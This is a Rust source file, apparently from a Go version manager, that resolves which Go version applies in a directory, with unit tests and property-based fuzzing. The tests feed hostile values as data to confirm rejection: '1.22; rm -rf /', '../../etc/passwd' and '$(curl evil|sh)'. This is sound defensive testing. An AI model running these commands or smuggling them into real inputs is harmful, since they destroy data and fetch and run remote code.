//! Which Go version applies in a directory: the one resolver shared by the
//! shims, the shell hooks, `gvmr env`, `gvmr current` and `gvmr exec`.
//!
//! Order:
//! 1. `GVMR_GO_VERSION`;
//! 2. the nearest `.go-version`, or `.tool-versions` with a `golang`/`go`
//!    entry, walking up from the directory (nearest wins; in one directory
//!    `.go-version` wins);
//! 3. else the nearest `go.work` (unless `GOWORK=off`), else `go.mod`: a
//!    `toolchain goX.Y.Z` line is exact, a `go X.Y[.Z]` line a minimum;
//! 4. else the global default (`$GVMR_HOME/default`);
//! 5. else nothing.

use crate::version::{GoVersion, VersionRequest};
use std::fmt;
use std::fs::File;
use std::io::Read;
use std::path::{Path, PathBuf};

pub const GO_VERSION_FILE: &str = ".go-version";
pub const TOOL_VERSIONS_FILE: &str = ".tool-versions";
pub const DEFAULT_FILE: &str = "default";

/// Version files are tiny; anything larger is refused unread.
const MAX_FILE_BYTES: u64 = 64 * 1024;
/// go.mod files can be long (many requires); the directives are near the top.
const MAX_GO_MOD_BYTES: u64 = 4 * 1024 * 1024;

/// What decided the version.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    Env,
    File(PathBuf),
    Default(PathBuf),
}

impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Source::Env => f.write_str("GVMR_GO_VERSION"),
            Source::File(path) | Source::Default(path) => write!(f, "{}", path.display()),
        }
    }
}

/// What a source asks for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Requirement {
    /// A request as written in `.go-version` & co (exact, a line, latest).
    Request(VersionRequest),
    /// go.mod's `go` line: this version or a newer one of the same line.
    AtLeast(GoVersion),
}

impl fmt::Display for Requirement {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Requirement::Request(r) => r.fmt(f),
            Requirement::AtLeast(v) => write!(f, ">= {v}"),
        }
    }
}

/// A requirement and where it came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Selection {
    pub requirement: Requirement,
    pub source: Source,
}

/// A version file that cannot be understood.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SelectError {
    /// The file, or `GVMR_GO_VERSION`.
    pub origin: String,
    /// 1-based line, when one line is at fault.
    pub line: Option<usize>,
    pub problem: String,
}

impl fmt::Display for SelectError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.line {
            Some(line) => write!(f, "{}:{line}: {}", self.origin, self.problem),
            None => write!(f, "{}: {}", self.origin, self.problem),
        }
    }
}

impl std::error::Error for SelectError {}

fn describe_value(value: &str) -> String {
    let shown: String = value.chars().take(40).collect();
    if shown.len() < value.len() {
        format!("{shown:?}…")
    } else {
        format!("{shown:?}")
    }
}

/// Parses a version as written in a file, with `problem` naming the format.
fn request_in(value: &str, origin: &Path, line: usize) -> Result<VersionRequest, SelectError> {
    VersionRequest::parse(value).map_err(|_| SelectError {
        origin: origin.display().to_string(),
        line: Some(line),
        problem: format!(
            "{} is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)",
            describe_value(value)
        ),
    })
}

/// Reads a text file of at most `limit` bytes. `Ok(None)` when it does not exist.
fn read_text(path: &Path, limit: u64) -> Result<Option<String>, SelectError> {
    let err = |problem: String| SelectError {
        origin: path.display().to_string(),
        line: None,
        problem,
    };
    let file = match File::open(path) {
        Ok(file) => file,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        // A directory or an unreadable file where a version file belongs.
        Err(e) => return Err(err(format!("cannot read it: {e}"))),
    };
    let mut bytes = Vec::new();
    file.take(limit + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| err(format!("cannot read it: {e}")))?;
    if bytes.len() as u64 > limit {
        return Err(err(format!(
            "it is larger than {limit} bytes; a version file holds one version"
        )));
    }
    String::from_utf8(bytes)
        .map(Some)
        .map_err(|_| err("it is not UTF-8 text; a version file holds one version".into()))
}

/// `.go-version` (and the default file): one version, `#` comment lines and
/// blank lines tolerated.
pub fn parse_go_version_file(text: &str, origin: &Path) -> Result<VersionRequest, SelectError> {
    let mut found: Option<(usize, &str)> = None;
    for (i, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        if found.is_some() {
            return Err(SelectError {
                origin: origin.display().to_string(),
                line: Some(i + 1),
                problem: format!(
                    "a second version {}; the file holds one version",
                    describe_value(line)
                ),
            });
        }
        found = Some((i + 1, line));
    }
    match found {
        Some((line, value)) => request_in(value, origin, line),
        None => Err(SelectError {
            origin: origin.display().to_string(),
            line: None,
            problem: "it holds no version (expected one, e.g. 1.22.5)".into(),
        }),
    }
}

/// `.tool-versions` (asdf): `golang 1.22.5` or `go 1.22.5`. `Ok(None)` when
/// the file has no Go entry.
pub fn parse_tool_versions(
    text: &str,
    origin: &Path,
) -> Result<Option<VersionRequest>, SelectError> {
    for (i, line) in text.lines().enumerate() {
        let content = line.split('#').next().unwrap_or("");
        let mut words = content.split_whitespace();
        match words.next() {
            Some("golang" | "go") => {}
            _ => continue,
        }
        let Some(value) = words.next() else {
            return Err(SelectError {
                origin: origin.display().to_string(),
                line: Some(i + 1),
                problem: "the go entry names no version (expected e.g. `golang 1.22.5`)".into(),
            });
        };
        return request_in(value, origin, i + 1).map(Some);
    }
    Ok(None)
}

/// `go.mod`/`go.work`: the `toolchain` line (exact) or else the `go` line
/// (a minimum). `Ok(None)` when neither is present.
pub fn parse_go_mod(text: &str, origin: &Path) -> Result<Option<Requirement>, SelectError> {
    let mut go_line = None;
    for (i, line) in text.lines().enumerate() {
        let content = line.split("//").next().unwrap_or("").trim();
        let mut words = content.split_whitespace();
        let (Some(directive), Some(value), None) = (words.next(), words.next(), words.next())
        else {
            continue;
        };
        let bad = |what: &str| SelectError {
            origin: origin.display().to_string(),
            line: Some(i + 1),
            problem: format!("{} is not {what}", describe_value(value)),
        };
        match directive {
            "toolchain" if value == "default" => {}
            "toolchain" => {
                let name = value
                    .strip_prefix("go")
                    .ok_or_else(|| bad("a toolchain name (expected e.g. go1.22.5)"))?;
                // Custom suffixes (go1.22.5+auto, go1.22.5-custom) name the release before them.
                let release = name.split(['+', '-']).next().unwrap_or(name);
                let version = GoVersion::parse(release)
                    .map_err(|_| bad("a toolchain name (expected e.g. go1.22.5)"))?;
                return Ok(Some(Requirement::Request(VersionRequest::Exact(version))));
            }
            "go" if go_line.is_none() => {
                let version = GoVersion::parse(value)
                    .map_err(|_| bad("a Go version (expected e.g. 1.22 or 1.22.5)"))?;
                go_line = Some(Requirement::AtLeast(version));
            }
            _ => {}
        }
    }
    Ok(go_line)
}

/// The environment the resolver reads; passed in so tests control it.
#[derive(Debug, Clone, Default)]
pub struct Inputs {
    /// `GVMR_GO_VERSION`.
    pub env_version: Option<String>,
    /// `GOWORK` (`off` disables go.work; a path names the file).
    pub gowork: Option<String>,
    /// The data directory, for the default file.
    pub home: Option<PathBuf>,
}

impl Inputs {
    pub fn from_env(home: Option<PathBuf>) -> Inputs {
        let var = |name| {
            std::env::var(name)
                .ok()
                .filter(|v: &String| !v.trim().is_empty())
        };
        Inputs {
            env_version: var("GVMR_GO_VERSION"),
            gowork: var("GOWORK"),
            home,
        }
    }
}

/// Every file the resolver looked at or would look at from `dir`, for the
/// shell hooks and direnv to watch.
pub fn candidate_files(dir: &Path, home: Option<&Path>) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for ancestor in dir.ancestors() {
        for name in [GO_VERSION_FILE, TOOL_VERSIONS_FILE, "go.work", "go.mod"] {
            files.push(ancestor.join(name));
        }
    }
    if let Some(home) = home {
        files.push(home.join(DEFAULT_FILE));
    }
    files
}

/// Selects the version for `dir`. `Ok(None)` when nothing selects one.
pub fn select(dir: &Path, inputs: &Inputs) -> Result<Option<Selection>, SelectError> {
    if let Some(value) = &inputs.env_version {
        let request = VersionRequest::parse(value).map_err(|_| SelectError {
            origin: "GVMR_GO_VERSION".into(),
            line: None,
            problem: format!(
                "{} is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)",
                describe_value(value)
            ),
        })?;
        return Ok(Some(Selection {
            requirement: Requirement::Request(request),
            source: Source::Env,
        }));
    }

    let gowork_off = inputs.gowork.as_deref() == Some("off");
    let mut nearest_work: Option<PathBuf> = match inputs.gowork.as_deref() {
        Some(path) if path != "off" && Path::new(path).is_absolute() => Some(PathBuf::from(path)),
        _ => None,
    };
    let mut nearest_mod: Option<PathBuf> = None;
    for ancestor in dir.ancestors() {
        let go_version = ancestor.join(GO_VERSION_FILE);
        if let Some(text) = read_text(&go_version, MAX_FILE_BYTES)? {
            let request = parse_go_version_file(&text, &go_version)?;
            return Ok(Some(Selection {
                requirement: Requirement::Request(request),
                source: Source::File(go_version),
            }));
        }
        let tool_versions = ancestor.join(TOOL_VERSIONS_FILE);
        if let Some(text) = read_text(&tool_versions, MAX_FILE_BYTES)?
            && let Some(request) = parse_tool_versions(&text, &tool_versions)?
        {
            return Ok(Some(Selection {
                requirement: Requirement::Request(request),
                source: Source::File(tool_versions),
            }));
        }
        if nearest_work.is_none() && !gowork_off {
            let work = ancestor.join("go.work");
            if work.is_file() {
                nearest_work = Some(work);
            }
        }
        if nearest_mod.is_none() {
            let module = ancestor.join("go.mod");
            if module.is_file() {
                nearest_mod = Some(module);
            }
        }
    }

    for path in [nearest_work, nearest_mod].into_iter().flatten() {
        if let Some(text) = read_text(&path, MAX_GO_MOD_BYTES)?
            && let Some(requirement) = parse_go_mod(&text, &path)?
        {
            return Ok(Some(Selection {
                requirement,
                source: Source::File(path),
            }));
        }
    }

    if let Some(home) = &inputs.home {
        let default = home.join(DEFAULT_FILE);
        if let Some(text) = read_text(&default, MAX_FILE_BYTES)? {
            let request = parse_go_version_file(&text, &default)?;
            return Ok(Some(Selection {
                requirement: Requirement::Request(request),
                source: Source::Default(default),
            }));
        }
    }
    Ok(None)
}

impl Requirement {
    /// The installed version this requirement picks: the newest installed
    /// match (for a minimum, the newest of its line at or above it).
    pub fn pick_installed(&self, installed: &[GoVersion]) -> Option<GoVersion> {
        match self {
            Requirement::Request(request) => request.best_match(installed),
            Requirement::AtLeast(min) => installed
                .iter()
                .filter(|v| v.in_line(min.major, min.minor) && *v >= min)
                .max()
                .copied(),
        }
    }

    /// The version to install when nothing installed satisfies it, when that
    /// is one exact version.
    pub fn exact(&self) -> Option<GoVersion> {
        match self {
            Requirement::Request(VersionRequest::Exact(v)) | Requirement::AtLeast(v) => Some(*v),
            _ => None,
        }
    }

    /// What to pass to `gvmr install` to satisfy this requirement.
    pub fn install_argument(&self) -> String {
        match self.exact() {
            Some(v) => v.number(),
            None => self.to_string(),
        }
    }
}

/// The versions installed in `versions_dir`, newest first: the one scan,
/// shared by the shims and `gvmr`. Only directories named exactly as Go
/// names the version count; a missing directory holds none.
pub fn installed_versions(versions_dir: &Path) -> std::io::Result<Vec<GoVersion>> {
    let entries = match std::fs::read_dir(versions_dir) {
        Ok(entries) => entries,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(e),
    };
    let mut versions: Vec<GoVersion> = entries
        .filter_map(|entry| {
            let entry = entry.ok()?;
            let name = entry.file_name().into_string().ok()?;
            let version = GoVersion::parse(&name).ok()?;
            // The entry's type costs no extra system call; a link is followed.
            let is_dir = match entry.file_type().ok()? {
                kind if kind.is_symlink() => entry.path().is_dir(),
                kind => kind.is_dir(),
            };
            (version.to_string() == name && is_dir).then_some(version)
        })
        .collect();
    versions.sort_by(|a, b| b.cmp(a));
    Ok(versions)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn v(s: &str) -> GoVersion {
        GoVersion::parse(s).unwrap()
    }

    fn exact(s: &str) -> Requirement {
        Requirement::Request(VersionRequest::Exact(v(s)))
    }

    struct Tree(tempfile_free::TempTree);

    /// A tiny temp-dir helper: the shim crate has no dependencies, even for tests.
    mod tempfile_free {
        use std::path::{Path, PathBuf};
        use std::sync::atomic::{AtomicUsize, Ordering};

        pub struct TempTree(pub PathBuf);

        impl TempTree {
            pub fn new() -> TempTree {
                static N: AtomicUsize = AtomicUsize::new(0);
                let dir = std::env::temp_dir().join(format!(
                    "gvmr-select-test-{}-{}",
                    std::process::id(),
                    N.fetch_add(1, Ordering::SeqCst)
                ));
                let _ = std::fs::remove_dir_all(&dir);
                std::fs::create_dir_all(&dir).unwrap();
                TempTree(dir)
            }

            pub fn path(&self) -> &Path {
                &self.0
            }
        }

        impl Drop for TempTree {
            fn drop(&mut self) {
                let _ = std::fs::remove_dir_all(&self.0);
            }
        }
    }

    impl Tree {
        fn new() -> Tree {
            Tree(tempfile_free::TempTree::new())
        }

        fn write(&self, rel: &str, text: &str) -> PathBuf {
            let path = self.0.path().join(rel);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, text).unwrap();
            path
        }

        fn dir(&self, rel: &str) -> PathBuf {
            let path = self.0.path().join(rel);
            fs::create_dir_all(&path).unwrap();
            path
        }

        fn home(&self) -> PathBuf {
            self.dir("home")
        }
    }

    fn inputs(tree: &Tree) -> Inputs {
        Inputs {
            home: Some(tree.home()),
            ..Inputs::default()
        }
    }

    fn selected(dir: &Path, inputs: &Inputs) -> (Requirement, Source) {
        let s = select(dir, inputs).unwrap().expect("a selection");
        (s.requirement, s.source)
    }

    #[test]
    fn env_wins_over_everything() {
        let tree = Tree::new();
        tree.write("p/.go-version", "1.21.0\n");
        let mut inputs = inputs(&tree);
        inputs.env_version = Some("go1.22.5".into());
        assert_eq!(
            selected(&tree.dir("p"), &inputs),
            (exact("1.22.5"), Source::Env)
        );
        inputs.env_version = Some("1.22; rm -rf /".into());
        let err = select(&tree.dir("p"), &inputs).unwrap_err().to_string();
        assert!(
            err.starts_with("GVMR_GO_VERSION: \"1.22; rm -rf /\" is not a Go version"),
            "{err}"
        );
    }

    #[test]
    fn nearest_pin_wins_and_go_version_beats_tool_versions() {
        let tree = Tree::new();
        let outer = tree.write("a/.go-version", "1.21.0");
        let tools = tree.write(
            "a/b/.tool-versions",
            "nodejs 20.1.0\ngolang 1.22.5 # pinned\n",
        );
        tree.write("a/b/c/.tool-versions", "python 3.12\n");
        let inputs = inputs(&tree);
        assert_eq!(
            selected(&tree.dir("a/b/c/d"), &inputs),
            (exact("1.22.5"), Source::File(tools.clone()))
        );
        assert_eq!(
            selected(&tree.dir("a"), &inputs),
            (exact("1.21.0"), Source::File(outer))
        );
        let same_dir = tree.write("a/b/.go-version", "# the team's version\n\n  go1.20  \n");
        assert_eq!(
            selected(&tree.dir("a/b"), &inputs),
            (exact("1.20.0"), Source::File(same_dir))
        );
    }

    #[test]
    fn pins_beat_go_mod_even_when_go_mod_is_nearer() {
        let tree = Tree::new();
        let pin = tree.write(".go-version", "1.22");
        tree.write("proj/go.mod", "module x\n\ngo 1.21\n");
        let line = Requirement::Request(VersionRequest::Line {
            major: 1,
            minor: 22,
        });
        assert_eq!(
            selected(&tree.dir("proj"), &inputs(&tree)),
            (line, Source::File(pin))
        );
    }

    #[test]
    fn go_work_beats_go_mod_unless_gowork_is_off() {
        let tree = Tree::new();
        let work = tree.write("ws/go.work", "go 1.22.1\n\nuse ./m\n");
        let module = tree.write("ws/m/go.mod", "module m\ngo 1.21.3\n");
        let mut inputs = inputs(&tree);
        assert_eq!(
            selected(&tree.dir("ws/m/pkg"), &inputs),
            (Requirement::AtLeast(v("1.22.1")), Source::File(work))
        );
        inputs.gowork = Some("off".into());
        assert_eq!(
            selected(&tree.dir("ws/m/pkg"), &inputs),
            (Requirement::AtLeast(v("1.21.3")), Source::File(module))
        );
    }

    #[test]
    fn go_mod_toolchain_is_exact_and_go_line_is_a_minimum() {
        let o = Path::new("go.mod");
        let parse = |t: &str| parse_go_mod(t, o).unwrap();
        assert_eq!(
            parse("module x\ngo 1.21\ntoolchain go1.22.5\n"),
            Some(exact("1.22.5"))
        );
        assert_eq!(
            parse("module x\r\ngo 1.21 // comment\r\n"),
            Some(Requirement::AtLeast(v("1.21.0")))
        );
        assert_eq!(
            parse("module x\ngo 1.20\n"),
            Some(Requirement::AtLeast(v("go1.20")))
        );
        assert_eq!(
            parse("go 1.22\ntoolchain default\n"),
            Some(Requirement::AtLeast(v("1.22.0")))
        );
        assert_eq!(parse("toolchain go1.23.1+auto\n"), Some(exact("1.23.1")));
        assert_eq!(
            parse("module x\nrequire (\n\tgo.example/go v1.0.0\n)\n"),
            None
        );
        assert_eq!(parse("// go 1.19\nmodule x\n"), None);
        let err = parse_go_mod("module x\n\ngo banana\n", o)
            .unwrap_err()
            .to_string();
        assert_eq!(
            err,
            "go.mod:3: \"banana\" is not a Go version (expected e.g. 1.22 or 1.22.5)"
        );
        let err = parse_go_mod("toolchain 1.22.5\n", o)
            .unwrap_err()
            .to_string();
        assert!(err.contains("not a toolchain name"), "{err}");
    }

    #[test]
    fn minimum_picks_newest_installed_of_its_line_else_itself() {
        let installed = [v("1.21.0"), v("1.21.5"), v("1.22.3"), v("1.20.14")];
        let at_least = |s: &str| Requirement::AtLeast(v(s));
        assert_eq!(
            at_least("1.21.0").pick_installed(&installed),
            Some(v("1.21.5"))
        );
        assert_eq!(at_least("1.21.6").pick_installed(&installed), None);
        assert_eq!(at_least("1.21.6").exact(), Some(v("1.21.6")));
        assert_eq!(at_least("1.23.0").pick_installed(&installed), None);
        let line = Requirement::Request(VersionRequest::Line {
            major: 1,
            minor: 22,
        });
        assert_eq!(line.pick_installed(&installed), Some(v("1.22.3")));
        assert_eq!(line.exact(), None);
        assert_eq!(line.install_argument(), "1.22");
        assert_eq!(at_least("1.20").install_argument(), "1.20");
    }

    #[test]
    fn default_applies_last_and_none_when_nothing() {
        let tree = Tree::new();
        let inputs = inputs(&tree);
        assert_eq!(select(&tree.dir("x"), &inputs).unwrap(), None);
        let default = tree.write("home/default", "1.22.5\n");
        assert_eq!(
            selected(&tree.dir("x"), &inputs),
            (exact("1.22.5"), Source::Default(default))
        );
    }

    #[test]
    fn malformed_files_name_file_line_and_expectation() {
        let o = Path::new("/p/.go-version");
        let err = |t: &str| parse_go_version_file(t, o).unwrap_err().to_string();
        assert_eq!(
            err("1.22.5\n1.21.0\n"),
            "/p/.go-version:2: a second version \"1.21.0\"; the file holds one version"
        );
        assert_eq!(
            err("\n# only a comment\n"),
            "/p/.go-version: it holds no version (expected one, e.g. 1.22.5)"
        );
        assert_eq!(
            err("../../etc/passwd"),
            "/p/.go-version:1: \"../../etc/passwd\" is not a Go version (expected e.g. 1.22.5, go1.22.5, 1.22 or latest)"
        );
        assert!(err("$(curl evil|sh)").contains("is not a Go version"));
        let tv = parse_tool_versions("golang\n", Path::new("/p/.tool-versions")).unwrap_err();
        assert_eq!(tv.line, Some(1));
    }

    #[test]
    fn binary_and_huge_files_are_refused_with_the_file_named() {
        let tree = Tree::new();
        let junk = tree.0.path().join("bin/.go-version");
        fs::create_dir_all(junk.parent().unwrap()).unwrap();
        fs::write(&junk, [0xff, 0xfe, 0x00, 0x01]).unwrap();
        let err = select(&tree.dir("bin"), &inputs(&tree)).unwrap_err();
        assert!(err.to_string().contains("not UTF-8"), "{err}");
        let huge = "1.22.5\n".repeat(20_000);
        tree.write("huge/.go-version", &huge);
        let err = select(&tree.dir("huge"), &inputs(&tree)).unwrap_err();
        assert!(err.to_string().contains("larger than"), "{err}");
        assert!(err.origin.ends_with("huge/.go-version"));
    }

    #[test]
    fn candidates_cover_every_level_and_the_default() {
        let files = candidate_files(Path::new("/a/b"), Some(Path::new("/h")));
        assert!(files.contains(&PathBuf::from("/a/b/.go-version")));
        assert!(files.contains(&PathBuf::from("/go.mod")));
        assert_eq!(files.last(), Some(&PathBuf::from("/h/default")));
        assert_eq!(files.len(), 13);
    }
}

/// Property-based fuzzing (proptest); `scripts/fuzz.sh` runs these far longer.
#[cfg(test)]
mod fuzz {
    use super::*;
    use proptest::prelude::*;

    /// Lines of the kinds version files and go.mod hold, and of kinds they
    /// should not, to reach every branch more often than random text does.
    fn line() -> impl Strategy<Value = String> {
        prop_oneof![
            Just(String::new()),
            Just("go 1.22".to_string()),
            Just("go banana".to_string()),
            Just("toolchain go1.23.1+auto".to_string()),
            Just("toolchain default".to_string()),
            Just("toolchain 1.22".to_string()),
            Just("golang 1.22.5 # pin".to_string()),
            Just("go".to_string()),
            Just("golang".to_string()),
            Just("require (".to_string()),
            Just("\tgo.example/x v1.0.0 // indirect".to_string()),
            Just(")".to_string()),
            Just("// go 1.19".to_string()),
            Just("# 1.21".to_string()),
            Just("latest".to_string()),
            Just("\0".to_string()),
            Just("\r".to_string()),
            Just("\u{feff}go 1.21".to_string()),
            "(go|toolchain|golang) +[a-z0-9.+\\-]{0,12}",
            "[0-9.a-z ]{0,20}",
            "\\PC{0,60}",
            any::<String>(),
            ("[a-z]{0,3}", 0usize..20_000).prop_map(|(s, n)| s.repeat(n)),
        ]
    }

    fn text() -> impl Strategy<Value = String> {
        prop_oneof![
            4 => (
                prop::collection::vec(line(), 0..12),
                prop::collection::vec(prop::sample::select(&["\n", "\r\n", "\r", ""][..]), 12),
            )
                .prop_map(|(lines, ends)| {
                    lines.iter().zip(ends).map(|(l, e)| format!("{l}{e}")).collect()
                }),
            1 => any::<String>(),
        ]
    }

    fn origin() -> impl Strategy<Value = PathBuf> {
        prop_oneof![
            Just(PathBuf::from("/p/.go-version")),
            "/[a-z é:]{1,10}/go\\.mod".prop_map(PathBuf::from),
        ]
    }

    fn check_error(e: &SelectError, text: &str, origin: &Path) -> Result<(), TestCaseError> {
        let shown = e.to_string();
        prop_assert!(
            shown.starts_with(&format!("{}:", origin.display())),
            "{shown:?} does not name {origin:?}"
        );
        prop_assert_eq!(&e.origin, &origin.display().to_string());
        if let Some(line) = e.line {
            prop_assert!(
                line >= 1 && line <= text.lines().count(),
                "line {line} in {text:?}"
            );
            let prefix = format!("{}:{line}: ", origin.display());
            prop_assert!(shown.starts_with(&prefix), "{shown:?}");
        }
        Ok(())
    }

    /// A request that prints and re-parses to itself.
    fn round_trips(request: &VersionRequest) -> bool {
        VersionRequest::parse(&request.to_string()).as_ref() == Ok(request)
    }

    fn requirement_round_trips(requirement: &Requirement) -> bool {
        match requirement {
            Requirement::Request(r) => round_trips(r),
            Requirement::AtLeast(v) => GoVersion::parse(&v.to_string()).as_ref() == Ok(v),
        }
    }

    /// A `go` line's version as written, and what it means.
    fn go_version() -> impl Strategy<Value = (String, GoVersion)> {
        (
            1u32..40,
            prop::option::of(0u32..30),
            prop::option::of(1u32..20),
        )
            .prop_map(|(minor, patch, rc)| {
                let mut text = format!("1.{minor}");
                if let Some(patch) = patch {
                    text.push_str(&format!(".{patch}"));
                }
                if let Some(rc) = rc {
                    text.push_str(&format!("rc{rc}"));
                }
                let version = GoVersion {
                    major: 1,
                    minor,
                    patch: patch.unwrap_or(0),
                    pre: rc.map(crate::version::PreRelease::Rc),
                };
                (text, version)
            })
    }

    /// Lines a valid go.mod holds besides `go` and `toolchain`.
    fn other_go_mod_lines() -> impl Strategy<Value = Vec<String>> {
        let module = "[a-z]{1,8}\\.(com|org)/[a-z]{1,8}";
        let version = "v[0-9]{1,2}\\.[0-9]{1,2}\\.[0-9]{1,2}";
        let stanza = prop_oneof![
            Just(vec![String::new()]),
            "// [ -~]{0,30}".prop_map(|c| vec![c]),
            (module, version).prop_map(|(m, v)| vec![format!("require {m} {v}")]),
            (module, version).prop_map(|(m, v)| vec![format!("require {m} {v} // indirect")]),
            (module, version).prop_map(|(m, v)| vec![format!("exclude {m} {v}")]),
            (module, module).prop_map(|(a, b)| vec![format!("replace {a} => {b} v1.0.0")]),
            Just(vec!["godebug default=go1.21".to_string()]),
            Just(vec!["retract v1.0.0 // broken".to_string()]),
            prop::collection::vec((module, version), 0..4).prop_map(|reqs| {
                let mut lines = vec!["require (".to_string()];
                lines.extend(reqs.into_iter().map(|(m, v)| format!("\t{m} {v}")));
                lines.push(")".to_string());
                lines
            }),
        ];
        prop::collection::vec(stanza, 0..8).prop_map(|s| s.concat())
    }

    /// Found by `select_never_panics_and_returns_round_tripping_versions`:
    /// `go0` in `.go-version` selected a version printed as the `0.0` line.
    #[test]
    fn go0_selects_a_version_that_round_trips() {
        let request = parse_go_version_file("\ngo0\n", Path::new(".go-version")).unwrap();
        assert!(round_trips(&request), "{request:?}");
    }

    proptest! {
        #[test]
        fn file_parsers_never_panic_and_name_file_and_line(text in text(), origin in origin()) {
            match parse_go_version_file(&text, &origin) {
                Ok(request) => prop_assert!(round_trips(&request), "{request:?}"),
                Err(e) => check_error(&e, &text, &origin)?,
            }
            match parse_tool_versions(&text, &origin) {
                Ok(Some(request)) => prop_assert!(round_trips(&request), "{request:?}"),
                Ok(None) => {}
                Err(e) => check_error(&e, &text, &origin)?,
            }
            match parse_go_mod(&text, &origin) {
                Ok(Some(requirement)) => {
                    prop_assert!(requirement_round_trips(&requirement), "{requirement:?}");
                }
                Ok(None) => {}
                Err(e) => check_error(&e, &text, &origin)?,
            }
        }

        #[test]
        fn go_mod_yields_exactly_its_requirement(
            module in "[a-z]{1,8}\\.com/[a-z]{1,8}",
            body in other_go_mod_lines(),
            go in prop::option::of((go_version(), any::<prop::sample::Index>(), any::<bool>())),
            toolchain in prop::option::of((
                go_version(),
                any::<prop::sample::Index>(),
                prop::sample::select(&["", "+auto", "-custom"][..]),
            )),
            default_toolchain in prop::option::of(any::<prop::sample::Index>()),
            crlf in any::<bool>(),
            indent in "[ \t]{0,2}",
        ) {
            let mut lines = vec![format!("module {module}")];
            lines.extend(body);
            let mut insert = |at: prop::sample::Index, line: String| {
                let at = 1 + at.index(lines.len());
                lines.insert(at, line);
            };
            if let Some(at) = default_toolchain {
                insert(at, "toolchain default".to_string());
            }
            if let Some(((text, _), at, comment)) = &go {
                let comment = if *comment { " // the minimum" } else { "" };
                insert(*at, format!("{indent}go {text}{comment}"));
            }
            if let Some(((text, _), at, suffix)) = &toolchain {
                insert(*at, format!("toolchain go{text}{suffix}"));
            }
            let end = if crlf { "\r\n" } else { "\n" };
            let text: String = lines.iter().map(|l| format!("{l}{end}")).collect();
            let expected = match (&toolchain, &go) {
                (Some(((_, v), _, _)), _) => Some(Requirement::Request(VersionRequest::Exact(*v))),
                (None, Some(((_, v), _, _))) => Some(Requirement::AtLeast(*v)),
                (None, None) => None,
            };
            prop_assert_eq!(parse_go_mod(&text, Path::new("go.mod")), Ok(expected), "{}", text);
        }

        #[test]
        fn select_never_panics_and_returns_round_tripping_versions(
            content in prop_oneof![
                text(),
                (prop::option::of("# [ -~]{0,20}"), "\\s{0,3}", "(go)?[0-9]{1,2}(\\.[0-9]{1,2}){0,2}((rc|beta)[0-9]{1,2})?|latest", "\\s{0,3}")
                    .prop_map(|(c, a, v, b)| format!("{}\n{a}{v}{b}\n", c.unwrap_or_default())),
            ],
            nested in any::<bool>(),
            go_mod in prop::option::of(text()),
        ) {
            let tree = TempTree::new();
            let dir = if nested { tree.0.join("a/b") } else { tree.0.clone() };
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(tree.0.join(GO_VERSION_FILE), &content).unwrap();
            if let Some(go_mod) = go_mod {
                std::fs::write(dir.join("go.mod"), go_mod).unwrap();
            }
            let inputs = Inputs { gowork: Some("off".into()), ..Inputs::default() };
            match select(&dir, &inputs) {
                Ok(Some(selection)) => {
                    prop_assert!(requirement_round_trips(&selection.requirement), "{selection:?}");
                    prop_assert_eq!(selection.source, Source::File(tree.0.join(GO_VERSION_FILE)));
                }
                Ok(None) => prop_assert!(false, "a .go-version exists, yet nothing was selected"),
                Err(e) => prop_assert!(e.origin.ends_with(GO_VERSION_FILE), "{e}"),
            }
        }
    }

    /// A fresh directory under the system temp dir, removed on drop (the shim
    /// crate stays free of non-test dependencies; this keeps its tests so too).
    struct TempTree(PathBuf);

    impl TempTree {
        fn new() -> TempTree {
            use std::sync::atomic::{AtomicUsize, Ordering};
            static N: AtomicUsize = AtomicUsize::new(0);
            let dir = std::env::temp_dir().join(format!(
                "gvmr-select-fuzz-{}-{}",
                std::process::id(),
                N.fetch_add(1, Ordering::SeqCst)
            ));
            let _ = std::fs::remove_dir_all(&dir);
            std::fs::create_dir_all(&dir).unwrap();
            TempTree(dir)
        }
    }

    impl Drop for TempTree {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
}
